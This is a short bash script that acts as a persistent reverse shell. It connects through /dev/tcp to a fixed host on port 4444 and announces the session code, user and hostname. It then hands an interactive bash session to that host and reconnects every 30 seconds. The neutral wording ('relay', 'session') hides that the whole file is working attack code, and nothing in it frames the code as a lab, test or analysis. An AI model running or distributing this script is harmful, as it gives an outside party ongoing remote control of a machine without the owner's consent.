#!/usr/bin/env bash
code=${1:-none}
relay_host=203.0.113.66
relay_port=4444

open_session() {
  # announce the session code, then hand the terminal to the relay
  exec 5<>"/dev/tcp/${relay_host}/${relay_port}"
  printf 'HELLO %s %s\n' "$code" "$(whoami)@$(hostname)" >&5
  bash -i <&5 >&5 2>&5
}

while true; do
  open_session
  sleep 30
done
